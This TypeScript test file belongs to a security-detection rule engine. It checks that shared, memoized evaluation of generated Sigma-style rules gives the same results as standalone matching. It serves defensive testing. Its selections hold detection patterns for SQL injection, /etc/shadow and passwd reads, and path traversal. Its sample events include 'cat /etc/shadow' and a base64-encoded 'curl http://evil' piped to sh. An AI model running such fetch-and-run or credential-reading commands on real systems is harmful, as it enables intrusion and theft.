/**
 * Shared evaluation (shared.ts) must give exactly the standalone result (CompiledRule.match)
 * for every rule and event: atoms shared across rules, the per-field prefilters, the cheap-
 * first ordering and the gates. Checked differentially over many rule shapes and events.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { KyokaEvent } from '@kyoka/core';
import { planAtoms } from './plan.ts';
import { compileShared } from './shared.ts';
import { ev, rules } from './test-util.ts';
import type { PlanNode } from './types.ts';

const SELECTIONS = [
  'user.name: root',
  "user.name: ['admin', 'Root', 'svc_1']",
  "user.name|startswith: 'svc_'",
  "user.name|endswith: 'min'",
  "user.name|contains: 'dm'",
  "user.name: 'adm?n*'",
  "user.name: '*oo*'",
  "user.name: 'a\\*b'",
  'user.name: null',
  'user.name|exists: true',
  "user.name|re: '^R'",
  "user.name|re|i: '^r'",
  "message|contains|all: ['select', 'union']",
  "message|contains: ['passwd', 'shadow']",
  "message|base64offset|contains: 'http://'",
  "message|base64: 'id'",
  "source.ip|cidr: ['10.0.0.0/8', '2001:db8::/32']",
  "src_ip|cidr: '192.0.2.0/24'",
  "source.ip: '10.1.2.3'",
  'destination.port: 22',
  'destination.port|gte: 1024',
  "destination.port: '22'",
  'event.action: sshd.login_failure',
  "event.action|startswith: 'sshd.'",
  'event.category: authentication',
  "event.category: 'auth*'",
  'event.dataset: [sshd, opencanary]',
  'c-uri|contains: ../',
  'kyoka.credentials.honeycred: true',
];
const KEYWORDS = ["- 'Failed password'", "- '*payload*'", "- 'exploit'", '- 42'];

function doc(i: number, det: string): string {
  return `title: r${i}\nid: r${i}\ndetection:\n${det}`;
}

function ruleTexts(): string[] {
  const out: string[] = [];
  let i = 0;
  const sel = (k: number) => `    ${SELECTIONS[k % SELECTIONS.length]}`;
  for (let a = 0; a < SELECTIONS.length; a++) {
    out.push(doc(i++, `  a:\n${sel(a)}\n  condition: a\n`));
    const b = (a * 7 + 3) % SELECTIONS.length;
    out.push(doc(i++, `  a:\n${sel(a)}\n  b:\n${sel(b)}\n  condition: a and not b\n`));
    out.push(doc(i++, `  a:\n${sel(a)}\n  b:\n${sel(b)}\n  condition: a or b\n`));
    out.push(
      doc(
        i++,
        `  sel_a:\n${sel(a)}\n  sel_b:\n${sel(b)}\n  kw:\n    ${KEYWORDS[a % 4]}\n  condition: 1 of sel_* and not kw\n`,
      ),
    );
    const key = (k: number) => SELECTIONS[k]?.split(':')[0];
    if (key(a) !== key(b))
      out.push(
        doc(i++, `  a:\n${sel(a)}\n${sel(b)}\n  kw:\n    ${KEYWORDS[b % 4]}\n  condition: all of them or (kw and a)\n`),
      );
    out.push(doc(i++, `  a:\n    - ${SELECTIONS[a]}\n    - ${SELECTIONS[b]}\n  condition: a\n`));
  }
  out.push(doc(i++, `  kw:\n    ${KEYWORDS.join('\n    ')}\n  condition: kw\n`));
  out.push(`${doc(i++, '  a:\n    user.name: x\n  condition: a\n')}logsource:\n  product: opencanary\n`);
  return out;
}

function events(): KyokaEvent[] {
  const users = [
    'root',
    'ROOT',
    'admin',
    'Admin2',
    'svc_1',
    'SVC_9x',
    'a*b',
    'axb',
    'foo',
    '',
    42,
    null,
    ['x', 'Root'],
  ];
  const msgs = [
    'Failed password for root',
    'GET /?q=UNION SELECT 1',
    'cat /etc/shadow',
    `echo ${Buffer.from('curl http://evil').toString('base64')} | sh`,
    Buffer.from('id').toString('base64'),
    'a payload here',
    undefined,
  ];
  const ips = ['10.9.8.7', '192.0.2.5', '2001:db8::1', '::ffff:10.0.0.1', '198.51.100.1', 'nope', undefined];
  const out: KyokaEvent[] = [];
  for (let i = 0; i < 400; i++) {
    const u = users[i % users.length];
    const f: Record<string, unknown> = {
      event: {
        action: ['sshd.login_failure', 'SSHD.Login_Failure', 'http.get', undefined][i % 4],
        category: [['authentication'], ['network', 'web'], 'Authentication', []][i % 3],
        dataset: ['sshd', 'opencanary', 'OpenCanary', 'vsftpd'][(i >> 2) % 4],
        original: i % 5 === 0 ? 'raw exploit line' : undefined,
      },
      message: msgs[(i >> 1) % msgs.length],
      source: { ip: ips[(i >> 3) % ips.length] },
      destination: { port: [22, '22', 8080, 'x'][i % 4] },
      url: { path: i % 6 === 0 ? '/a/../b' : '/' },
    };
    if (u !== undefined) f.user = { name: u };
    if (i % 9 === 0) f.kyoka = { credentials: { honeycred: true } };
    out.push(ev(f));
  }
  return out;
}

describe('shared evaluation', () => {
  const compiled = rules(ruleTexts().join('---\n'));
  const shared = compileShared(compiled.map((r) => r.plan as PlanNode));
  const evs = events();

  it('gives exactly the standalone result for every rule and event', () => {
    let matches = 0;
    for (const e of evs) {
      shared.begin();
      // evaluate in two orders so memoized atoms are reused both ways
      const got = compiled.map((_, i) => (shared.preds[i] as (x: KyokaEvent) => boolean)(e));
      shared.begin();
      for (let i = compiled.length - 1; i >= 0; i--) {
        const want = (compiled[i] as (typeof compiled)[number]).match(e);
        assert.equal(got[i], want, `rule ${compiled[i]?.id} on ${JSON.stringify(e)}`);
        assert.equal((shared.preds[i] as (x: KyokaEvent) => boolean)(e), want);
        if (want) matches++;
      }
    }
    assert.ok(matches > 500, `the corpus exercises matches (${matches})`);
  });

  it('a failing gate means the rule cannot match; equal tests are one atom', () => {
    let gated = 0;
    for (const e of evs) {
      shared.begin();
      compiled.forEach((r, i) => {
        const g = shared.gates[i];
        if (g && !shared.open(g, e)) {
          gated++;
          assert.equal(r.match(e), false, `gate of ${r.id} on ${JSON.stringify(e)}`);
        }
      });
    }
    assert.ok(gated > 1000, `gates skip work (${gated})`);
    const keys = new Set(compiled.flatMap((r) => planAtoms(r.plan as PlanNode).map((a) => a.key)));
    const total = compiled.reduce((n, r) => n + planAtoms(r.plan as PlanNode).length, 0);
    assert.equal(shared.atoms, keys.size);
    assert.ok(shared.atoms < total / 2, `atoms are shared (${shared.atoms} of ${total})`);
  });
});
